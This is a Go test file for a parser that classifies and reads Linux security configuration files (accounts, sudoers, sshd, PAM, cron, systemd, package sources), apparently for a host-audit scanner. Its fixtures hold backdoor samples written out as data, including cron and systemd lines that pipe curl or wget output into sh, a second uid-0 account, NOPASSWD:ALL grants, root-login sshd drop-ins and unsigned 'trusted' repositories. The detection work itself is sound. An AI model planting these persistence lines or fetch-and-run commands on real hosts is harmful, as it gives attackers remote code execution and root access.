package secconf

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func lines(t *testing.T, s string) []Line {
	t.Helper()
	ls, err := Lines("test", []byte(s), DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	return ls
}

func TestClassify(t *testing.T) {
	for p, want := range map[string]Kind{
		"/etc/passwd":                                      KindPasswd,
		"/etc/sudo.conf":                                   KindSudoConf,
		"/etc/security/pam_env.conf":                       KindPAMEnv,
		"/home/bob/.pam_environment":                       KindPAMEnv,
		"/etc/security/limits.conf":                        KindNone,
		"/etc/shadow":                                      KindShadow,
		"/etc/sudoers.d/90-cloud":                          KindSudoers,
		"/etc/pam.d/common-auth":                           KindPAM,
		"/etc/ssh/sshd_config":                             KindSSHD,
		"/etc/ssh/sshd_config.d/50-x.conf":                 KindSSHD,
		"/etc/ssh/sshd_config.d/README":                    KindNone,
		"/root/.ssh/authorized_keys":                       KindAuthorized,
		"/srv/app/.ssh/authorized_keys2":                   KindAuthorized,
		"/etc/cron.d/php":                                  KindCron,
		"/var/spool/cron/crontabs/root":                    KindUserCron,
		"/etc/cron.daily/logrotate":                        KindCronScript,
		"/etc/systemd/system/x.service":                    KindSystemd,
		"/etc/systemd/system/x.service.d/override.conf":    KindSystemd,
		"/usr/lib/systemd/system/getty.target.wants/x.txt": KindNone,
		"/home/bob/.config/systemd/user/agent.timer":       KindSystemd,
		"/etc/init.d/ssh":                                  KindInit,
		"/etc/profile.d/z.sh":                              KindShellRC,
		"/root/.bashrc":                                    KindShellRC,
		"/root/.bash_aliases":                              KindShellRC,
		"/etc/gitconfig":                                   KindGitConfig,
		"/etc/sysctl.d/60-crash.conf":                      KindSysctl,
		"/usr/lib/sysctl.d/50-coredump.conf":               KindSysctl,
		"/etc/sysctl.d/README":                             KindNone,
		"/home/bob/.gitconfig":                             KindGitConfig,
		"/root/.config/git/config":                         KindGitConfig,
		"/home/bob/.ssh/rc":                                KindShellRC,
		"/etc/ssh/sshrc":                                   KindShellRC,
		"/etc/bash_completion.d/kubectl":                   KindShellRC,
		"/usr/lib/udev/rules.d/75-net.rules":               KindAutostart,
		"/usr/lib/udev/rules.d/README":                     KindNone,
		"/home/bob/.npmrc":                                 KindNpm,
		"/app/.npmrc":                                      KindNpm,
		"/usr/local/etc/npmrc":                             KindNpm,
		"/usr/local/lib/node_modules/npm/npmrc":            KindNpm,
		"/usr/share/doc/npm/npmrc":                         KindNone,
		"/usr/local/pip.conf":                              KindPip,
		"/opt/venv/pip.conf":                               KindPip,
		"/etc/modules-load.d/x.conf":                       KindModules,
		"/etc/ld.so.preload":                               KindPreload,
		"/etc/hosts":                                       KindHosts,
		"/etc/apt/sources.list.d/x.list":                   KindAptList,
		"/etc/apt/sources.list.d/debian.sources":           KindAptSources,
		"/etc/yum.repos.d/epel.repo":                       KindYumRepo,
		"/etc/apk/repositories":                            KindApkRepos,
		"/usr/bin/passwd":                                  KindNone,
		"/etc/passwd-":                                     KindNone,
		"/home/.bashrc":                                    KindNone,
		"/etc/supervisor/conf.d/app.conf":                  KindAutostart,
		"/etc/supervisord.conf":                            KindAutostart,
		"/etc/xdg/autostart/tracker.desktop":               KindAutostart,
		"/etc/xdg/autostart/README":                        KindNone,
		"/home/bob/.config/autostart/sync.desktop":         KindAutostart,
		"/etc/udev/rules.d/99-x.rules":                     KindAutostart,
		"/etc/logrotate.d/nginx":                           KindAutostart,
		"/etc/init/agent.conf":                             KindAutostart,
		"/usr/local/lib/python3.12/site-packages/x.pth":    KindAutostart,
		"/usr/lib/python3/dist-packages/sitecustomize.py":  KindAutostart,
		"/usr/lib/python3/dist-packages/x/__init__.py":     KindNone,
		"/docker-entrypoint.d/40-x.sh":                     KindInit,
		"/etc/update-motd.d/10-uname":                      KindInit,
		"/etc/sv/agent/run":                                KindInit,
		"/etc/services.d/nginx/run":                        KindInit,
		"/etc/s6-overlay/s6-rc.d/svc/up":                   KindInit,
		"/etc/sv/agent/log/config":                         KindNone,
		"/etc/network/if-up.d/sync":                        KindInit,
		"/var/spool/cron/atjobs/a0001":                     KindInit,
		"/etc/crontabs/root":                               KindUserCron,
		"/etc/periodic/15min/x":                            KindCronScript,
	} {
		if got := Classify(p); got != want {
			t.Errorf("Classify(%q) = %q, want %q", p, got, want)
		}
	}
}

func TestLinesBounded(t *testing.T) {
	lim := Limits{MaxSize: 100, MaxLine: 10, MaxLines: 3}
	for name, data := range map[string]string{
		"size":  strings.Repeat("a\n", 60),
		"line":  "short\n" + strings.Repeat("x", 11) + "\n",
		"lines": "a\nb\nc\nd\n",
	} {
		if _, err := Lines("/etc/hosts", []byte(data), lim); !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "/etc/hosts") {
			t.Errorf("%s: %v, want ErrTooLarge naming the file", name, err)
		}
	}
	ls, err := Lines("f", []byte("a\r\nb\n\nc"), DefaultLimits)
	if err != nil || !reflect.DeepEqual(ls, []Line{{1, "a"}, {2, "b"}, {3, ""}, {4, "c"}}) {
		t.Errorf("lines: %v %v", ls, err)
	}
}

func TestAccounts(t *testing.T) {
	passwd := ParsePasswd(lines(t, `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
# a comment
toor:x:0:0::/root:/bin/sh
nopw::1001:1001::/home/nopw:/bin/sh
inline:$6$salt$hash:1002:1002::/home/i:/bin/sh
broken:x:notanumber
+@nis::::::
svc:x:999:999::/nonexistent:/usr/sbin/nologin
ghost:x:1003:1003::/home/g:/bin/sh
`))
	shadow := ParseShadow(lines(t, `root:$y$j9T$abc$def:19000:0:99999:7:::
daemon:*:19000:0:99999:7:::
toor:$1$xyz$0123456789abcdef:19000::::::
svc:!:19000::::::
nopw:::::::
`))
	acc := Accounts(passwd, shadow)
	got := map[string]string{}
	uid0 := 0
	for _, a := range acc {
		got[a.Name] = a.Password + "/" + a.Scheme
		if a.UID == 0 {
			uid0++
		}
	}
	want := map[string]string{
		"root": "set/yescrypt", "daemon": "locked/", "toor": "set/md5", "nopw": "empty/",
		"inline": "set/sha512", "svc": "locked/", "ghost": "none/",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("accounts:\n got %v\nwant %v", got, want)
	}
	if uid0 != 2 {
		t.Errorf("%d uid-0 accounts, want 2 (root, toor)", uid0)
	}
	for _, a := range acc {
		if strings.Contains(a.Scheme, "$") || strings.Contains(a.Password, "$") {
			t.Errorf("%s: a hash leaked: %+v", a.Name, a)
		}
	}
	if g := ParseGroup(lines(t, "sudo:x:27:alice,bob\nroot:x:0:\n")); len(g) != 2 || !reflect.DeepEqual(g[0].Members, []string{"alice", "bob"}) || g[1].Members != nil {
		t.Errorf("groups: %+v", g)
	}
}

func TestSudoers(t *testing.T) {
	grants, incs := ParseSudoers(lines(t, `Defaults env_reset
Defaults:bob !requiretty
Cmnd_Alias PKG = /usr/bin/apt-get, /usr/bin/dpkg
root ALL=(ALL:ALL) ALL
%sudo ALL=(ALL:ALL) ALL
deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app, /usr/bin/journalctl
www-data ALL=(ALL) NOPASSWD:ALL
ci  ALL = NOPASSWD: SETENV: ALL
ops host1 = (root) PASSWD: /bin/ls : host2 = NOPASSWD: PKG
long ALL=(ALL) \
   NOPASSWD: ALL
# NOPASSWD: ALL in a comment
#includedir /etc/sudoers.d
@include /etc/sudoers.local
`))
	type g struct {
		who, cmd string
		nopw     bool
	}
	var got []g
	for _, x := range grants {
		got = append(got, g{x.Who, x.Commands, x.NoPasswd})
	}
	want := []g{
		{"root", "ALL", false}, {"%sudo", "ALL", false},
		{"deploy", "/usr/bin/systemctl restart app", true}, {"deploy", "/usr/bin/journalctl", true},
		{"www-data", "ALL", true}, {"ci", "ALL", true},
		{"ops", "/bin/ls", false}, {"ops", "PKG", true},
		{"long", "ALL", true},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("grants:\n got %v\nwant %v", got, want)
	}
	if len(incs) != 2 || !incs[0].Dir || incs[0].Path != "/etc/sudoers.d" || incs[1].Dir || incs[1].Path != "/etc/sudoers.local" {
		t.Errorf("includes: %+v", incs)
	}
}

// TestSudoAliases: alias definitions, several on a line and continued,
// with Cmd_Alias read as Cmnd_Alias; grants and comments are not aliases.
func TestSudoAliases(t *testing.T) {
	got := ParseSudoAliases(lines(t, `Cmnd_Alias MAINT = /usr/bin/tar, /usr/bin/less
User_Alias OPS = app, deploy : DEVS = bob
Cmd_Alias SVC = /usr/bin/systemctl restart app:8080, \
   /usr/bin/systemctl status app
# Cmnd_Alias OLD = /bin/sh
OPS ALL=(root) NOPASSWD: MAINT
`))
	want := []SudoAlias{
		{Line: 1, Type: "Cmnd_Alias", Name: "MAINT", Members: "/usr/bin/tar, /usr/bin/less"},
		{Line: 2, Type: "User_Alias", Name: "OPS", Members: "app, deploy"},
		{Line: 2, Type: "User_Alias", Name: "DEVS", Members: "bob"},
		{Line: 3, Type: "Cmnd_Alias", Name: "SVC", Members: "/usr/bin/systemctl restart app:8080,     /usr/bin/systemctl status app"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("aliases:\n got %+v\nwant %+v", got, want)
	}
}

func TestEffectiveSSHD(t *testing.T) {
	main := ParseSSHConfig(lines(t, `Include /etc/ssh/sshd_config.d/*.conf
PermitRootLogin prohibit-password
PasswordAuthentication no
Match User backup
    PermitRootLogin yes
Match all
PermitEmptyPasswords=no
`))
	dropin := ParseSSHConfig(lines(t, "# a look-alike: PermitRootLogin yes\npermitrootlogin \"yes\"\nAuthorizedKeysFile /tmp/.k\n"))
	eff := EffectiveSSHD(main, func(p string) [][]SSHOption {
		if p != "/etc/ssh/sshd_config.d/*.conf" {
			t.Errorf("include pattern %q", p)
		}
		return [][]SSHOption{dropin}
	})
	// The drop-in is read first (its Include stands first), so its value wins.
	if o := eff["permitrootlogin"]; o.Value != "yes" || o.Line != 2 {
		t.Errorf("effective PermitRootLogin: %+v", o)
	}
	if eff["passwordauthentication"].Value != "no" || eff["permitemptypasswords"].Value != "no" || eff["authorizedkeysfile"].Value != "/tmp/.k" {
		t.Errorf("effective: %+v", eff)
	}
	// Without the drop-in, the Match block's yes does not count at top level.
	if o := EffectiveSSHD(main, nil)["permitrootlogin"]; o.Value != "prohibit-password" {
		t.Errorf("without drop-in: %+v", o)
	}
	// Include loops are bounded.
	loop := ParseSSHConfig(lines(t, "Include loop.conf\n"))
	EffectiveSSHD(loop, func(string) [][]SSHOption { return [][]SSHOption{loop} })
}

func TestPAM(t *testing.T) {
	got := ParsePAM(lines(t, `# /etc/pam.d/common-auth
auth	[success=1 default=ignore]	pam_unix.so nullok
auth	requisite			pam_deny.so
auth sufficient pam_permit.so
-session optional pam_systemd.so
@include common-account
account required
`))
	if len(got) != 5 {
		t.Fatalf("%d lines: %+v", len(got), got)
	}
	if got[0].Control != "[success=1 default=ignore]" || got[0].Module != "pam_unix.so" || got[0].Args != "nullok" {
		t.Errorf("line 1: %+v", got[0])
	}
	if got[2].Type != "auth" || got[2].Control != "sufficient" || got[2].Module != "pam_permit.so" {
		t.Errorf("permit: %+v", got[2])
	}
	if !got[3].Optional || got[3].Type != "session" {
		t.Errorf("-session: %+v", got[3])
	}
	if got[4].Type != "@include" || got[4].Module != "common-account" {
		t.Errorf("include: %+v", got[4])
	}
}

func TestCron(t *testing.T) {
	sys := ParseCron(lines(t, `SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh
@reboot  nobody  /tmp/.x/start
mon-fri is not a job
`), true)
	if len(sys) != 3 || sys[0].User != "root" || sys[0].Command != "cd / && run-parts --report /etc/cron.hourly" ||
		sys[1].Schedule != "*/5 * * * *" || sys[1].Command != "curl -fsSL http://203.0.113.9/x.sh | sh" ||
		sys[2].Schedule != "@reboot" || sys[2].User != "nobody" || sys[2].Command != "/tmp/.x/start" {
		t.Errorf("system crontab: %+v", sys)
	}
	user := ParseCron(lines(t, "0 3 * * sun /usr/bin/backup --all\n"), false)
	if len(user) != 1 || user[0].User != "" || user[0].Command != "/usr/bin/backup --all" || user[0].Schedule != "0 3 * * sun" {
		t.Errorf("user crontab: %+v", user)
	}
}

func TestUnit(t *testing.T) {
	got := ParseUnit(lines(t, `[Unit]
Description=agent
[Service]
ExecStartPre=/bin/sh -c \
  'wget -q -O- http://x/y | sh'
ExecStart=/usr/local/bin/agent
; comment
[Install]
WantedBy=multi-user.target
`))
	if len(got) != 4 || got[1].Section != "Service" || got[1].Key != "ExecStartPre" ||
		!strings.Contains(got[1].Value, "wget -q -O- http://x/y | sh") || got[3].Key != "WantedBy" {
		t.Errorf("unit: %+v", got)
	}
}

func TestHosts(t *testing.T) {
	got := ParseHosts(lines(t, "127.0.0.1\tlocalhost\n::1 localhost ip6-localhost # c\n198.51.100.7 deb.debian.org Security.Debian.Org\nnot-an-ip foo\n"))
	var names []string
	for _, h := range got {
		names = append(names, h.Address+" "+h.Name)
	}
	want := []string{"127.0.0.1 localhost", "::1 localhost", "::1 ip6-localhost", "198.51.100.7 deb.debian.org", "198.51.100.7 security.debian.org"}
	if !reflect.DeepEqual(names, want) {
		t.Errorf("hosts: %v", names)
	}
}

func TestSources(t *testing.T) {
	apt := ParseAptList(lines(t, `deb http://deb.debian.org/debian bookworm main
deb [signed-by=/usr/share/keyrings/x.gpg] https://repo.example/apt stable main
deb [trusted=yes arch=amd64] https://evil.example/apt ./
# deb [trusted=yes] http://commented/ x
deb-src [allow-insecure=yes] http://src.example/ x main
`))
	if len(apt) != 4 || apt[0].Scheme != "http" || apt[0].Trusted || apt[1].Trusted || !apt[2].Trusted || !apt[3].Trusted {
		t.Errorf("apt list: %+v", apt)
	}
	d := ParseAptSources(lines(t, `Types: deb
URIs: http://deb.debian.org/debian http://mirror.example/debian
Suites: bookworm
Signed-By: /usr/share/keyrings/debian-archive-keyring.gpg

Types: deb
URIs: https://x.example/
Trusted: yes
Enabled: no
`))
	if len(d) != 3 || d[0].Trusted || d[1].URI != "http://mirror.example/debian" || !d[2].Trusted || d[2].Enabled {
		t.Errorf("deb822: %+v", d)
	}
	yum := ParseYumRepo(lines(t, `[main]
gpgcheck=1
[base]
baseurl=http://mirror.centos.org/centos/7/os/x86_64/
[evil]
baseurl=https://evil.example/repo
gpgcheck=0
enabled=1
[off]
mirrorlist=https://m.example/?repo=x
enabled=0
`))
	if len(yum) != 3 || yum[0].Trusted || yum[0].Scheme != "http" || !yum[1].Trusted || yum[2].Enabled {
		t.Errorf("yum: %+v", yum)
	}
	if m := ParseYumRepo(lines(t, "[main]\ngpgcheck=False\ninstallonly_limit=3\n")); len(m) != 1 || !m[0].Trusted || m[0].Line != 2 || m[0].URI != "[main]" {
		t.Errorf("dnf.conf, gpgcheck off in [main]: %+v", m)
	}
	if m := ParseYumRepo(lines(t, "[main]\ngpgcheck=1\n")); len(m) != 0 {
		t.Errorf("dnf.conf, stock: %+v", m)
	}
	pip := ParsePip(lines(t, "[global]\nindex-url = http://pypi.internal:8080/simple\nextra-index-url =\n    https://other.example/simple\ntrusted-host = pypi.internal\n"))
	if len(pip) != 2 || !pip[0].Trusted || pip[1].Trusted || pip[1].URI != "https://other.example/simple" {
		t.Errorf("pip: %+v", pip)
	}
	// A trusted host no index of the file names is a source of its own
	// (pip trusts it for the index it is given elsewhere).
	pip = ParsePip(lines(t, "[install]\ntrusted-host = pypi.example.net\n    files.example.net\n"))
	if len(pip) != 2 || !pip[0].Trusted || pip[0].URI != "pypi.example.net" || pip[1].URI != "files.example.net" || pip[1].Line != 3 {
		t.Errorf("pip, trusted hosts alone: %+v", pip)
	}
	if npm := ParseNpmrc(lines(t, "fund=false\nstrict-ssl=false\n")); len(npm) != 1 || !npm[0].Trusted || npm[0].Line != 2 {
		t.Errorf("npm, strict-ssl=false alone (the default registry): %+v", npm)
	}
	npm := ParseNpmrc(lines(t, "registry=http://npm.internal/\n@corp:registry=https://npm.corp/\nstrict-ssl=false\n"))
	if len(npm) != 2 || !npm[0].Trusted || npm[0].Scheme != "http" {
		t.Errorf("npm: %+v", npm)
	}
	apk := ParseApkRepositories(lines(t, "https://dl-cdn.alpinelinux.org/alpine/v3.19/main\n@edge http://dl-cdn.alpinelinux.org/alpine/edge/testing\n#http://x\n"))
	if len(apk) != 2 || apk[1].Scheme != "http" || apk[1].URI != "http://dl-cdn.alpinelinux.org/alpine/edge/testing" {
		t.Errorf("apk: %+v", apk)
	}
	gem := ParseGemrc(lines(t, "---\n:sources:\n- http://gems.internal/\n- https://rubygems.org/\n:verbose: true\n"))
	if len(gem) != 2 || gem[0].Scheme != "http" {
		t.Errorf("gem: %+v", gem)
	}
}

// FuzzParse feeds every kind arbitrary bytes: nothing panics, and no parser
// returns a row whose line number is not one of the file's.
func FuzzParse(f *testing.F) {
	f.Add("root:x:0:0::/:/bin/sh\n", 0)
	f.Add("a ALL=(ALL) NOPASSWD: ALL : b = c\\\n", 3)
	f.Add("[x]\nbaseurl=\nhttp://a\n", 17)
	kinds := []Kind{KindPasswd, KindShadow, KindGroup, KindSudoers, KindPAM, KindSSHD, KindCron, KindUserCron,
		KindSystemd, KindHosts, KindAptList, KindAptSources, KindApkRepos, KindYumRepo, KindPip, KindNpm, KindGem, KindNone}
	f.Fuzz(func(t *testing.T, data string, k int) {
		if k < 0 {
			k = -k
		}
		file, err := Parse(kinds[k%len(kinds)], "fuzz", []byte(data), DefaultLimits)
		if err != nil {
			return
		}
		n := len(file.Lines)
		for _, s := range file.Sources {
			if s.Line < 1 || s.Line > n {
				t.Fatalf("source line %d of %d", s.Line, n)
			}
		}
	})
}

// TestPathSetExtra: extra patterns add files with their kind (lines only by
// default) after the documented set, which keeps its own kinds; the key
// changes with the patterns; bad patterns are refused, naming them.
func TestPathSetExtra(t *testing.T) {
	s, err := NewPathSet([]Extra{{Glob: "/opt/*/cron/*", Kind: KindCron}, {Glob: "/srv/**"}, {Glob: "/etc/**"}})
	if err != nil {
		t.Fatal(err)
	}
	for p, want := range map[string]Kind{
		"/opt/a/cron/job":     KindCron,
		"/opt/a/b/cron/job":   KindNone,
		"/srv/x/y/z.conf":     KindLines,
		"/etc/passwd":         KindPasswd,
		"/etc/app.conf":       KindLines,
		"/usr/share/doc/x.md": KindNone,
	} {
		if got := s.Classify(p); got != want {
			t.Errorf("Classify(%q) = %q, want %q", p, got, want)
		}
	}
	var none *PathSet
	if none.Classify("/etc/passwd") != KindPasswd || none.Key() != "" {
		t.Error("nil path set is not the documented one")
	}
	other, _ := NewPathSet([]Extra{{Glob: "/opt/*/cron/*", Kind: KindUserCron}, {Glob: "/srv/**"}, {Glob: "/etc/**"}})
	if s.Key() == "" || s.Key() == other.Key() {
		t.Errorf("keys %q and %q", s.Key(), other.Key())
	}
	for _, bad := range []Extra{{Glob: "opt/x"}, {Glob: "/opt/../etc/x"}, {Glob: "/opt/[x"}, {Glob: "/opt/x", Kind: "cronjob"}} {
		if _, err := NewPathSet([]Extra{bad}); err == nil || !strings.Contains(err.Error(), bad.Glob) {
			t.Errorf("NewPathSet(%+v): %v", bad, err)
		}
	}
}
